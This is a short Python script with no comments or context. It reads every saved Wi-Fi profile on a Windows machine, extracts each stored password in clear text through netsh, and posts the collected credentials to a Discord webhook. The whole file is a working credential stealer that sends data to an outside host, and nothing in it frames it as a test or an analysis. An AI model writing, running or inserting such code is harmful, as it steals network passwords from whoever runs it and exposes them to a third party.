import subprocess, re, requests
profiles = re.findall(r"All User Profile\s*:\s*(.*)", subprocess.check_output("netsh wlan show profiles", shell=True).decode(errors="ignore"))
out = ""
for p in profiles:
    out += subprocess.check_output(f'netsh wlan show profile name="{p.strip()}" key=clear', shell=True).decode(errors="ignore")
requests.post("https://discord.com/api/webhooks/123/abc", json={"content": out[:1900]})
